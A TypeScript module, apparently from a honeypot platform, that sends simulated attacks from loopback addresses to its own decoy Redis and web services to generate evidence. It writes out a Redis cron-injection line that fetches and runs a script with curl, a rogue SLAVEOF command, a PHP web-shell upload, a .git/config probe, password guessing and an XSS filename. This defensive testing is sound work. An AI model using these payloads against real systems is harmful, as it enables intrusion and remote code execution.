// A small attack over plain sockets, from sources of its own: what the pages then have to show.
import { once } from 'node:events'
import { connect } from 'node:net'
import type { Platform } from '../path/platform.ts'

/** Sends each piece and waits for something to come back, then leaves. */
export async function converse(target: { host: string; port: number }, source: string, pieces: readonly string[]): Promise<string> {
  const socket = connect({ ...target, localAddress: source })
  let heard = ''
  socket.on('data', (chunk) => {
    heard += String(chunk)
  })
  await once(socket, 'connect')
  for (const piece of pieces) {
    const answered = Promise.race([once(socket, 'data'), once(socket, 'close')])
    socket.write(piece)
    await answered
  }
  socket.end()
  if (!socket.closed) await once(socket, 'close')
  return heard
}

const post = (target: string, type: string, body: string) =>
  `POST ${target} HTTP/1.1\r\nHost: intranet\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n${body}`

const form = (user: string, password: string) =>
  post('/login', 'application/x-www-form-urlencoded', `username=${user}&password=${password}`)

/** Visits every kind of evidence: commands, requests, credentials, files, hostile text. */
export async function attackAll(platform: Platform): Promise<void> {
  const redis = await platform.find('redis')
  const fleet = await platform.running()
  const web = fleet.find((decky) => decky.archetype === 'web-server')
  const http = { host: web?.address ?? '', port: web?.services[0]?.port ?? 0 }
  for (const [index, source] of ['127.77.20.1', '127.77.20.2', '127.77.20.3'].entries()) {
    await converse(redis, source, [
      'INFO\r\n',
      `SET crontab "\\n* * * * * curl -fsSL http://198.51.100.9/x${index}.sh | sh\\n"\r\n`,
      'CONFIG SET dir /var/spool/cron/\r\n',
      'SLAVEOF 198.51.100.9 6380\r\n',
      'AUTH hunter2\r\n',
      'SET \u202egpj.exe <script>alert(1)</script>\r\n',
      'SAVE\r\n',
    ])
    await converse(http, source, [`GET /.git/config HTTP/1.1\r\nHost: intranet\r\nUser-Agent: zgrab/0.x\r\nConnection: close\r\n\r\n`])
    await converse(http, source, [form('admin', `Winter202${index}`)])
    await converse(http, source, [post('/upload.php', 'application/octet-stream', '<?php system($_GET[c]);?>')])
  }
}
